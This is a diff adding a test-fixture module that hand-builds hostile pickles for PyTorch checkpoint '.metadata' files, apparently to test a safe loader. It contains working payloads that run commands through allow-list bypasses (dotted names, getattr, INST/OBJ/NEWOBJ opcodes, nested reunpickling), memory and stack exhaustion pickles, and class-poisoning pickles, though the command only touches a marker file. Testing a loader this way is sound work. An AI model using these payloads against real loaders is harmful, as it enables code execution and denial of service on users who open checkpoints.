@@ -1,0 +1,299 @@
+"""Pickles for ``.metadata`` that attack who reads them. Opcodes are written by hand: ``pickle`` would not.
+
+Three kinds: :data:`RUNNERS` run a command that creates a marker file, :data:`EATERS` take memory, time or the C stack
+(what is under test must read them in another process, or the test run dies with it; :func:`load_in_child` does that for
+plain ``pickle``), and :data:`POISONERS` change something for the rest of the process.
+"""
+
+from __future__ import annotations
+
+import pickle
+import resource
+import struct
+import subprocess
+import sys
+from collections.abc import Callable
+from pathlib import Path
+
+import torch  # noqa: F401  (the modules that the pickles name must exist)
+
+from .edit import METADATA, load_metadata
+from .saved import trained
+
+STOP = b"."
+
+
+def text(value: str) -> bytes:
+    """BINUNICODE."""
+    raw = value.encode()
+    return b"X" + struct.pack("<I", len(raw)) + raw
+
+
+def stack_global(module: str, name: str) -> bytes:
+    """STACK_GLOBAL (protocol 4): ``name`` may have dots, and then attributes of attributes are looked up."""
+    return text(module) + text(name) + b"\x93"
+
+
+def command(marker: Path) -> str:
+    return f"touch '{marker}'"
+
+
+def _reduce(function: bytes, *arguments: bytes) -> bytes:
+    return function + b"(" + b"".join(arguments) + b"tR"
+
+
+def _proto4(body: bytes) -> bytes:
+    return b"\x80\x04" + body + STOP
+
+
+# --- they would run a command -----------------------------------------------------------------------------------
+
+
+def system_pickle(marker: Path) -> bytes:
+    """``os.system`` by GLOBAL and REDUCE, protocol 2: what every tutorial shows."""
+    return b"\x80\x02" + _reduce(b"cos\nsystem\n", text(command(marker))) + STOP
+
+
+def posix_system(marker: Path) -> bytes:
+    """The same function under the name it has: ``posix.system``."""
+    return b"\x80\x02" + _reduce(b"cposix\nsystem\n", text(command(marker))) + STOP
+
+
+def builtins_eval(marker: Path) -> bytes:
+    """``builtins.eval``."""
+    code = f"__import__('os').system({command(marker)!r})"
+    return _proto4(_reduce(stack_global("builtins", "eval"), text(code)))
+
+
+def python2_name(marker: Path) -> bytes:
+    """``__builtin__.eval``: with ``fix_imports`` and a protocol below 3 that is ``builtins.eval``."""
+    code = f"__import__('os').system({command(marker)!r})"
+    return _reduce(b"c__builtin__\neval\n", text(code)) + STOP
+
+
+def builtins_getattr(marker: Path) -> bytes:
+    """``getattr`` of an allowed-looking module object: ``getattr(torch.distributed.checkpoint.metadata.os, "system")``."""
+    function = _reduce(
+        stack_global("builtins", "getattr"), stack_global("torch.distributed.checkpoint.metadata", "os"), text("system")
+    )
+    return _proto4(_reduce(function, text(command(marker))))
+
+
+def dotted_name(marker: Path) -> bytes:
+    """``os.system`` as a dotted name in ``torch.distributed.checkpoint.metadata``, which imports ``os``.
+
+    An allow-list by module prefix lets it through.
+    """
+    function = stack_global("torch.distributed.checkpoint.metadata", "os.system")
+    return _proto4(_reduce(function, text(command(marker))))
+
+
+def dotted_dtype(marker: Path) -> bytes:
+    """``torch.serialization.os.system`` as a name in ``torch``, where dtypes are looked up by attribute."""
+    return _proto4(_reduce(stack_global("torch", "serialization.os.system"), text(command(marker))))
+
+
+def dotted_class(marker: Path) -> bytes:
+    """Starts at an allowed class: the globals behind its methods hold the module ``os``, and ``get`` hands it out."""
+    get = stack_global("torch.distributed.checkpoint.metadata", "TensorProperties.__getstate__.__globals__.get")
+    function = _reduce(stack_global("builtins", "getattr"), _reduce(get, text("os")), text("system"))
+    return _proto4(_reduce(function, text(command(marker))))
+
+
+def load_from_bytes(marker: Path) -> bytes:
+    """``torch.storage._load_from_bytes`` unpickles its argument again, without any allow-list."""
+    inner = system_pickle(marker)
+    function = stack_global("torch.storage", "_load_from_bytes")
+    return _proto4(_reduce(function, b"B" + struct.pack("<I", len(inner)) + inner))
+
+
+def inst_opcode(marker: Path) -> bytes:
+    """INST (protocol 0) names and calls in one opcode: there is no REDUCE to look for."""
+    return b"(" + text(command(marker)) + b"ios\nsystem\n" + STOP
+
+
+def obj_opcode(marker: Path) -> bytes:
+    """OBJ (protocol 1): the callable comes first on the stack, then its arguments."""
+    return b"(cos\nsystem\n" + text(command(marker)) + b"o" + STOP
+
+
+def newobj_opcode(marker: Path) -> bytes:
+    """NEWOBJ makes a ``functools.partial`` of ``os.system``: the callable that is called was never named as one."""
+    new = b"cfunctools\npartial\n(cos\nsystem\nt\x81"
+    return b"\x80\x02" + _reduce(new, text(command(marker))) + STOP
+
+
+def extension(marker: Path) -> bytes:
+    """EXT1 number 240 goes through ``copyreg``; it runs where somebody registered ``os.system`` there.
+
+    The C unpickler asks ``find_class`` only the first time, then takes it from ``copyreg._extension_cache``.
+    """
+    return b"\x80\x02" + _reduce(b"\x82\xf0", text(command(marker))) + STOP
+
+
+def in_planner_data(marker: Path, directory: Path) -> bytes:
+    """A sound :func:`saved.trained` in ``directory``, with ``os.system`` inside its ``planner_data``."""
+
+    class Runs:
+        def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
+            from os import system
+
+            return system, (command(marker),)
+
+    metadata = load_metadata(trained(directory))
+    metadata.planner_data["model.model.norm.weight"] = ("model", Runs())
+    return pickle.dumps(metadata, protocol=4)
+
+
+RUNNERS: dict[str, Callable[[Path], bytes]] = {
+    maker.__name__: maker
+    for maker in (
+        system_pickle, posix_system, builtins_eval, python2_name, builtins_getattr, dotted_name, dotted_dtype,
+        dotted_class, load_from_bytes, inst_opcode, obj_opcode, newobj_opcode,
+    )
+}  # fmt: skip
+"""Each takes the marker and gives a pickle that runs ``touch marker``."""
+
+
+# --- they would eat memory, time or the stack -------------------------------------------------------------------
+
+
+def long_binput(index: int = 1 << 27) -> bytes:
+    """Nine bytes: LONG_BINPUT grows the C unpickler's memo to twice ``index`` pointers, here 2 GB of zeros."""
+    return b"\x80\x02Nr" + struct.pack("<I", index) + STOP
+
+
+def text_put(index: int = 1 << 27) -> bytes:
+    """PUT, the same in the text protocol."""
+    return b"Np%d\n" % index + STOP
+
+
+def binbytes8() -> bytes:
+    """BINBYTES8 that announces 1 TB; the C unpickler asks for that memory before it reads."""
+    return b"\x80\x04\x8e" + struct.pack("<Q", 1 << 40) + b"x" + STOP
+
+
+def bytearray8() -> bytes:
+    """BYTEARRAY8 (protocol 5), likewise."""
+    return b"\x80\x05\x96" + struct.pack("<Q", 1 << 40) + b"x" + STOP
+
+
+def frame() -> bytes:
+    """FRAME that announces 1 TB."""
+    return b"\x80\x04\x95" + struct.pack("<Q", 1 << 40) + b"N" + STOP
+
+
+def _nested(depth: int) -> bytes:
+    return b"\x80\x02)" + b"\x85" * depth
+
+
+def nested_value(depth: int = 1_000_000) -> bytes:
+    """Tuples a million deep: loads without trouble, then ``repr``, ``==``, ``copy`` and the like exhaust the stack."""
+    return _nested(depth) + STOP
+
+
+def nested_key(depth: int = 1_000_000) -> bytes:
+    """The same as the key of a dict: hashing it recurses in C without a check, and the process dies by a signal."""
+    return b"\x80\x02}" + _nested(depth)[2:] + b"Ns" + STOP
+
+
+def doubling_key(doublings: int = 60) -> bytes:
+    """180 bytes whose dict key, ``x = (x, x)`` sixty times, takes longer to hash than anybody lives."""
+    return b"\x80\x02})" + b"2\x86" * doublings + b"Ns" + STOP
+
+
+def doubling_value(doublings: int = 60) -> bytes:
+    """The same as a value: it is there at once, and is 2**60 tuples to whoever walks or prints it."""
+    return b"\x80\x02)" + b"2\x86" * doublings + STOP
+
+
+def cycle() -> bytes:
+    """A list that contains itself."""
+    return b"\x80\x02]q\x00h\x00a" + STOP
+
+
+def persistent_id() -> bytes:
+    """BINPERSID, which a plain ``.metadata`` never has."""
+    return b"\x80\x02" + text("storage") + b"Q" + STOP
+
+
+EATERS: dict[str, Callable[[], bytes]] = {
+    maker.__name__: maker
+    for maker in (
+        long_binput, text_put, binbytes8, bytearray8, frame, nested_value, nested_key, doubling_key, doubling_value,
+        cycle, persistent_id,
+    )
+}  # fmt: skip
+
+
+# --- they would change a class ----------------------------------------------------------------------------------
+
+
+def poisoned_class(class_name: str = "Metadata", attribute: str = "poisoned") -> bytes:
+    """BUILD on a class, not an instance: the slot state of ``(None, {...})`` is set with ``setattr``, on the class.
+
+    Only allowed globals are named. What it sets stays until the process ends, for every checkpoint read later.
+    """
+    target = stack_global("torch.distributed.checkpoint.metadata", class_name)
+    return _proto4(target + b"N}" + text(attribute) + text("yes") + b"s\x86b")
+
+
+def poisoned_enum() -> bytes:
+    """The same on ``_MEM_FORMAT_ENCODING``."""
+    return poisoned_class("_MEM_FORMAT_ENCODING")
+
+
+def poisoned_slots() -> bytes:
+    """BUILD on an instance, with a slot state that overrides a method of it: ``chunk.sizes`` becomes a string."""
+    target = stack_global("torch.distributed.checkpoint.metadata", "ChunkStorageMetadata")
+    return _proto4(target + b")\x81" + b"N}" + text("sizes") + text("yes") + b"s\x86b")
+
+
+def poisoned_environment() -> bytes:
+    """SETITEMS on ``os.environ`` sets ``DCPTOOLS_POISONED``, without an opcode that calls anything."""
+    return b"\x80\x02cos\nenviron\n(" + text("DCPTOOLS_POISONED") + text("yes") + b"u" + STOP
+
+
+POISONERS: dict[str, Callable[[], bytes]] = {
+    maker.__name__: maker for maker in (poisoned_class, poisoned_enum, poisoned_slots, poisoned_environment)
+}
+
+
+# --- checkpoints with them --------------------------------------------------------------------------------------
+
+
+def checkpoint(directory: Path, metadata: bytes) -> Path:
+    """A directory with these bytes as ``.metadata`` and a ``.distcp`` file beside it."""
+    directory.mkdir(parents=True, exist_ok=True)
+    (directory / METADATA).write_bytes(metadata)
+    (directory / "__0_0.distcp").write_bytes(b"")
+    return directory
+
+
+def runner(directory: Path, name: str) -> Path:
+    """The checkpoint of a :data:`RUNNERS` name (or ``in_planner_data``, ``extension``). Returns the marker."""
+    marker = directory.with_name(directory.name + ".marker")
+    if name == "in_planner_data":
+        checkpoint_bytes = in_planner_data(marker, directory)
+        (directory / METADATA).write_bytes(checkpoint_bytes)
+    else:
+        checkpoint(directory, {**RUNNERS, "extension": extension}[name](marker))
+    return marker
+
+
+def load_in_child(
+    path: Path, *, before: str = "", after: str = "", memory: int = 1 << 30, timeout: float = 20.0
+) -> subprocess.CompletedProcess[str]:
+    """``value = pickle.load(...)`` of a file in another process that may take ``memory`` bytes.
+
+    ``before`` and ``after`` are statements around it. ``subprocess.TimeoutExpired`` comes from here.
+    """
+    code = f"import pickle, sys\n{before}\nvalue = pickle.load(open(sys.argv[1], 'rb'))\n{after}"
+
+    def limit() -> None:
+        resource.setrlimit(resource.RLIMIT_AS, (memory, memory))
+        resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
+
+    return subprocess.run(
+        [sys.executable, "-c", code, str(path)], capture_output=True, text=True, timeout=timeout, preexec_fn=limit
+    )
